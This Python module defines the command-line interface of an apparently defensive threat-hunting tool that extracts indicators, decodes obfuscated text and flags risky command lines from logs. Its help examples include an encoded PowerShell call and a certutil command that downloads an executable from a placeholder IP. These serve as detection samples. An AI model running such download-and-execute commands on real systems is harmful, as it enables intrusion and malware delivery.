"""The commands that take things out of logs: `iocs`, `decode`, `cmdline`, `tree`, `timeline`."""

from pathlib import Path
from typing import Annotated

import typer

from huntkit.cli.commands import command, work
from huntkit.cli.options import General, Paths, Reading, Span, Writing

_Title = Annotated[str | None, typer.Option(metavar="TEXT", help="The heading of the picture.")]
_IocTypes = Annotated[
    list[str] | None,
    typer.Option("--type", metavar="TYPE", help="Only this type or group; may be repeated."),
]
_Defang = Annotated[
    bool, typer.Option("--defang", help="Write indicators so that nobody can click them.")
]


@command(
    "iocs",
    "huntkit iocs evidence/",
    "cat mail.txt | huntkit iocs - --type url --type ipv4",
    "Every indicator with its counts and the first place where it stands. Types: ipv4 ipv6 cidr dns"
    " url email file hashes (md5_hash ...), cve attack_technique asn and wallets (btc_wallet ...);"
    " on demand imphash ja3_hash ja4_hash mac_address guid mutex named_pipe windows_path linux_path"
    " registry_key user_agent. Groups: default all file_hash path wallet. - reads any text from"
    " stdin.",
)
def iocs(
    paths: Paths,
    reading: Reading,
    writing: Writing,
    types: _IocTypes = None,
    defang: _Defang = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Indicators: addresses, names, URLs, e-mail addresses, hashes."""
    work("questions", general).iocs(paths, reading, writing, general, types=types, defang=defang)


@command(
    "decode",
    "huntkit decode evidence/",
    "huntkit decode --text 'powershell -enc ZABpAHIA'",
    "Decode base64, hexadecimal, escapes, compressed text and archives inside command lines,"
    " scripts, tasks and services."
    " - reads text from stdin, one piece a line.",
)
def decode(
    reading: Reading,
    writing: Writing,
    paths: Annotated[
        list[str] | None,
        typer.Argument(
            metavar="PATHS",
            help="Files, folders, globs or archives; - reads text from stdin.",
            show_default=False,
        ),
    ] = None,
    text: Annotated[
        list[str] | None, typer.Option("--text", metavar="TEXT", help="Decode this text.")
    ] = None,
    xor: Annotated[
        bool, typer.Option("--xor", help="Also try masks of one byte on what is not readable.")
    ] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Encoded text, decoded layer by layer."""
    work("questions", general).decode(paths or [], text or [], reading, writing, general, xor=xor)


@command(
    "cmdline",
    "huntkit cmdline evidence/ --lowest high",
    "huntkit cmdline --text 'certutil -urlcache -f http://198.51.100.9/a a.exe'",
    "Look for risky command lines of Windows, Linux and macOS, however they are spelt or encoded,"
    " with the technique of MITRE ATT&CK and why it matters. - reads lines from stdin.",
)
def cmdline(
    reading: Reading,
    writing: Writing,
    paths: Annotated[
        list[str] | None,
        typer.Argument(
            metavar="PATHS",
            help="Files, folders, globs or archives; - reads lines from stdin.",
            show_default=False,
        ),
    ] = None,
    text: Annotated[
        list[str] | None, typer.Option("--text", metavar="TEXT", help="Look at this line.")
    ] = None,
    lowest: Annotated[
        str,
        typer.Option(metavar="LEVEL", help="Leave out what is below: low, medium, high, critical."),
    ] = "low",
    rules: Annotated[
        list[Path] | None,
        typer.Option(metavar="FILE", help="Your own rules, instead of the built-in ones."),
    ] = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Risky command lines, with the reason."""
    work("commandline", general).cmdline(
        paths or [], text or [], reading, writing, general, lowest=lowest, rules=rules or []
    )


@command(
    "tree",
    "huntkit tree evidence/ --host ws01.example",
    "huntkit tree evidence/ -o tree.html",
    "Who started what. On a terminal the branches worth a look first (risky"
    " command lines, unusual starts, then rare programs); piped, one row per process;"
    " with -o x.html an interactive picture, with -o x.txt all trees as text.",
)
def tree(
    paths: Paths,
    reading: Reading,
    span: Span,
    writing: Writing,
    host: Annotated[
        str | None, typer.Option(metavar="HOST", help="Only this host; a short name will do.")
    ] = None,
    title: _Title = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Process trees, the branches worth a look first."""
    work("questions", general).tree(paths, reading, span, writing, general, host=host, title=title)


@command(
    "timeline",
    "huntkit timeline evidence/ --table DeviceLogonEvents --since 2026-03-03T09:00Z",
    "huntkit timeline evidence/ --group-by Host -o timeline.html",
    "The notable events, or all rows of the tables that --table names. With -o x.html an"
    " interactive picture.",
)
def timeline(
    paths: Paths,
    reading: Reading,
    span: Span,
    writing: Writing,
    table: Annotated[
        list[str] | None,
        typer.Option("--table", "-t", metavar="TABLE", help="A table; may be repeated."),
    ] = None,
    group_by: Annotated[
        str | None, typer.Option(metavar="COLUMN", help="One band per value of this column.")
    ] = None,
    title: _Title = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Events of several tables in the order of time."""
    work("questions", general).timeline(
        paths, reading, span, writing, general, names=table or [], group_by=group_by, title=title
    )
